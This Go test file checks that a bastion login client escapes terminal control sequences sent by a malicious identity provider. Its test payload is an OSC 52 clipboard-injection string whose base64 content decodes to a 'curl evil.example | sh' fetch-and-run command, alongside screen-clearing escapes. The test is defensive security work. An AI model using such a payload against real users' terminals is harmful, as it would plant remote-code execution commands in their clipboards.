package login

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/bastionhq/bastion/ca"
)

// The identity provider is the one the bastion names (/v1/info), so a
// phishing bastion URL names an IdP of its own. What such an IdP sends
// that login prints (the device flow's URL and code, the authorization
// URL) reaches the person's terminal as text: an escape sequence in it
// (OSC 52 writes the clipboard, others the title or the screen) is shown
// escaped, not sent to the terminal.
func TestLoginPrintsIdPTextEscaped(t *testing.T) {
	const evil = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x1b[2J\u009b"
	var idp *httptest.Server
	idp = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch r.URL.Path {
		case "/.well-known/openid-configuration":
			json.NewEncoder(w).Encode(map[string]any{
				"issuer": idp.URL, "jwks_uri": idp.URL + "/keys",
				"authorization_endpoint":        idp.URL + "/auth" + evil,
				"token_endpoint":                idp.URL + "/token",
				"device_authorization_endpoint": idp.URL + "/device",
			})
		case "/device":
			json.NewEncoder(w).Encode(map[string]any{
				"device_code": "dc", "user_code": "ABCD" + evil, "verification_uri": idp.URL + "/activate" + evil,
				"verification_uri_complete": idp.URL + "/activate?code=ABCD" + evil, "expires_in": 60, "interval": 1,
			})
		case "/token":
			w.WriteHeader(http.StatusBadRequest)
			json.NewEncoder(w).Encode(map[string]any{"error": "access_denied"})
		default:
			http.NotFound(w, r)
		}
	}))
	defer idp.Close()
	bastion := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == ca.PathInfo {
			json.NewEncoder(w).Encode(ca.Info{Issuer: idp.URL, ClientID: "bastion", Scopes: []string{"openid"}, MaxUserTTL: "8h0m0s"})
			return
		}
		http.NotFound(w, r)
	}))
	defer bastion.Close()
	for _, method := range []string{MethodDevice, MethodBrowser} {
		t.Run(method, func(t *testing.T) {
			out := &strings.Builder{}
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			cfg := LoginConfig{BastionURL: bastion.URL, Dir: t.TempDir(), Method: method, NoAgent: true, Out: out, CallbackTimeout: 2 * time.Second,
				OpenBrowser: func(string) error { return nil }}
			if _, err := Login(ctx, cfg); err == nil {
				t.Fatal("login succeeded")
			}
			if !strings.Contains(out.String(), "http") {
				t.Fatalf("printed no URL: %q", out)
			}
			if i := strings.IndexAny(out.String(), "\x1b\x07\u009b"); i >= 0 {
				t.Errorf("printed the IdP's control characters: %q", out)
			}
		})
	}
}
